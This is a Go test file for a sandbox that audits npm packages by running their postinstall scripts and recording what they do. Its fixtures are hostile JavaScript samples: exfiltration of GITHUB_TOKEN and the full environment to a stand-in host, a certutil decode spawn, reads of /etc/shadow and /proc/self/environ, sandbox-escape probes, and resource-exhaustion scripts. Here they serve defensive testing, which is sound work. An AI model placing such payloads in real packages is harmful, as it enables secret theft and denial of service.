package worker

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"io"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/amalfi-audit/audit/internal/sandbox"
)

// packAll makes a tarball of files, given as name and content in turn.
func packAll(t testing.TB, files ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	z := gzip.NewWriter(&buf)
	w := tar.NewWriter(z)
	for i := 0; i < len(files); i += 2 {
		err := w.WriteHeader(&tar.Header{Name: "package/" + files[i], Size: int64(len(files[i+1])), Mode: 0o644})
		if _, err2 := io.WriteString(w, files[i+1]); err != nil || err2 != nil {
			t.Fatal(err, err2)
		}
	}
	if err := errors.Join(w.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// tell runs scripts in the sandbox, each as an entry of its own, in one child.
func tell(t testing.TB, plan sandbox.Plan, scripts ...string) *sandbox.Story {
	t.Helper()
	files := []string{"package.json", "{}"}
	for i, text := range scripts {
		name := string(rune('a'+i)) + ".js"
		files = append(files, name, text)
		plan.Entries = append(plan.Entries, sandbox.Entry{Hook: "postinstall", File: name})
	}
	plan.Package = sandbox.Package{Name: "fixture", Version: "1.0.0"}
	pool := newPool(t, "work", Options{Workers: 1})
	story, err := pool.Tell(context.Background(), request(packAll(t, files...)), plan)
	if err != nil {
		t.Fatal(err)
	}
	return story
}

// did returns the targets of a kind of events of a script's first run.
func did(s *sandbox.Story, script string, kind sandbox.Kind) (list []string) {
	for _, x := range s.Executions {
		if x.Entry.File == script {
			for _, e := range x.Events {
				if e.Kind == kind {
					list = append(list, e.Target)
				}
			}
		}
	}
	return list
}

const lookup = "require('dns').lookup('after.invalid', () => {})"

// TestTell runs harmful scripts behind the fence of a real child: each costs its
// own run, and what comes after is told.
func TestTell(t *testing.T) {
	for _, tt := range []struct {
		name, script string
		reasons      []sandbox.Reason
	}{
		{"a secret", "require('https').request('https://h.invalid/').end(process.env.GITHUB_TOKEN)", []sandbox.Reason{sandbox.Done}},
		{"an endless loop", "for (;;);", []sandbox.Reason{sandbox.OutOfTime}},
		{"a regular expression", "/(a+)+$/.test('a'.repeat(40) + 'b')", []sandbox.Reason{sandbox.OutOfTime, sandbox.Killed, sandbox.Done}},
		{"a loop in the engine", "new Array(2 ** 32 - 2).indexOf(7)", []sandbox.Reason{sandbox.OutOfTime, sandbox.Killed, sandbox.Done}},
		{"memory", "const a = []; for (;;) a.push(new Array(1e6).fill(a.length))", []sandbox.Reason{sandbox.OutOfMemory, sandbox.Killed, sandbox.OutOfTime}},
		{"a long string", "let s = 'x'; for (;;) s += s", []sandbox.Reason{sandbox.OutOfMemory, sandbox.Killed, sandbox.Done, sandbox.OutOfTime, sandbox.Failed}},
		{"the stack", "(function f() { f(); f() })()", []sandbox.Reason{sandbox.OutOfStack, sandbox.Done, sandbox.OutOfTime}},
		{"a flood", "for (let i = 0; i < 1e5; i++) { try { require('fs').writeFileSync('/tmp/' + i, 'x'.repeat(1000)) } catch (e) {} }", []sandbox.Reason{sandbox.Done, sandbox.OutOfTime}},
		{"odd values", "throw Object.create(null, {message: {get() { throw this }}})", []sandbox.Reason{sandbox.Done, sandbox.Failed}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if (tt.name == "memory" || tt.name == "a long string") && (underRace || runtime.GOOS != "linux") {
				t.Skip("no limit on memory here")
			}
			story := tell(t, sandbox.Plan{Limits: sandbox.Limits{Time: 500 * 1e6}}, tt.script, lookup)
			if len(did(story, "b.js", sandbox.Lookup)) == 0 {
				t.Errorf("what comes after is not told: %+v", story)
			}
			for _, x := range story.Executions {
				if x.Entry.File == "a.js" && !slices.Contains(tt.reasons, x.Ending.Reason) {
					t.Errorf("it ended with %q (%.200s), want one of %q", x.Ending.Reason, x.Ending.Message, tt.reasons)
				}
			}
			if tt.name == "a secret" {
				leaks := story.Executions[0].Leaks
				if len(leaks) == 0 || !leaks[0].Secret || leaks[0].Encoding != "plain" {
					t.Errorf("leaks %+v", leaks)
				}
			}
		})
	}
}

// TestTellEscape has scripts look for a way out.
func TestTellEscape(t *testing.T) {
	story := tell(t, sandbox.Plan{}, `
const seen = [];
const say = (s) => { try { require('dns').lookup(String(s).slice(0, 60) + '.invalid', () => {}) } catch (e) {} };
for (const k of ['__host', 'Deno', 'std', 'os', 'Go', 'scriptArgs', 'host']) if (typeof globalThis[k] !== 'undefined' && k !== 'Deno') say('global-' + k);
try { const F = (function () {}).constructor; if (F('return typeof __host')() !== 'undefined') say('host-by-function') } catch (e) {}
try { const f = require('fs').readFileSync; const F = f.constructor; if (F('return typeof host')() !== 'undefined') say('host-by-fake') } catch (e) {}
Error.prepareStackTrace = (e, s) => s;
try { null.x } catch (e) { if (Array.isArray(e.stack) && e.stack.some((c) => c.getThis && c.getThis() && c.getThis().record)) say('host-by-stack') }
Object.prototype.then = function (f) { say('then-called') };
delete Object.prototype.then;
try { for (const p of ['/etc/shadow', '/proc/self/environ', '/proc/self/maps']) { const t = require('fs').readFileSync(p, 'utf8'); if (/GOMAXPROCS|r-xp/.test(t)) say('real-' + p.replace(/\W/g, '')) } } catch (e) {}
process.stdout.write('{"story":{}}'); process.stdout.write('\x00\x00\x00\x02{}');
try { require('fs').writeSync(1, '\x00\x00\x00\x02{}'); require('fs').closeSync(1); require('fs').closeSync(0) } catch (e) {}
say('end');
`, lookup)
	if got := did(story, "a.js", sandbox.Lookup); !slices.Contains(got, "end.invalid") || slices.ContainsFunc(got, func(s string) bool { return s != "end.invalid" }) {
		t.Errorf("it said %q", got)
	}
	if len(did(story, "b.js", sandbox.Lookup)) == 0 {
		t.Error("what comes after is not told")
	}
}

// TestTellAgain tells the same story twice.
func TestTellAgain(t *testing.T) {
	script := "const os = require('os'); if (os.platform() === 'win32') require('child_process').exec('certutil -decode a b'); " +
		"require('https').get('https://h.invalid/' + Buffer.from(JSON.stringify(process.env)).toString('hex') + Math.random() + Date.now())"
	first, second := tell(t, sandbox.Plan{}, script), tell(t, sandbox.Plan{}, script)
	if !reflect.DeepEqual(first, second) {
		t.Errorf("two stories:\n%+v\n%+v", first, second)
	}
	if !slices.ContainsFunc(first.Executions, func(x sandbox.Execution) bool { return x.World == "windows" && strings.Contains(x.Why, "platform") }) {
		t.Errorf("it was not run as on Windows: %+v", first)
	}
	if len(did(first, "a.js", sandbox.Spawn)) == 0 {
		t.Error("what it does on Windows is not told")
	}
}

// TestTellForged believes no story that is none.
func TestTellForged(t *testing.T) {
	pool := newPool(t, "answer first", Options{Workers: 1})
	plan := sandbox.Plan{Entries: []sandbox.Entry{{File: "a.js"}}}
	if s, err := pool.Tell(context.Background(), request(packAll(t, "a.js", "1")), plan); !errors.Is(err, ErrAnswer) {
		t.Errorf("Tell gives %+v and the error %v", s, err)
	}
}

// BenchmarkTell runs one script that asks for nothing, in a child of its own.
func BenchmarkTell(b *testing.B) {
	data := packAll(b, "package.json", "{}", "a.js", "module.exports = 1")
	pool := newPool(b, "work", Options{Workers: 1})
	plan := sandbox.Plan{Package: sandbox.Package{Name: "fixture", Version: "1.0.0"}, Entries: []sandbox.Entry{{Hook: "postinstall", File: "a.js"}}}
	for b.Loop() {
		if _, err := pool.Tell(context.Background(), request(data), plan); err != nil {
			b.Fatal(err)
		}
	}
}
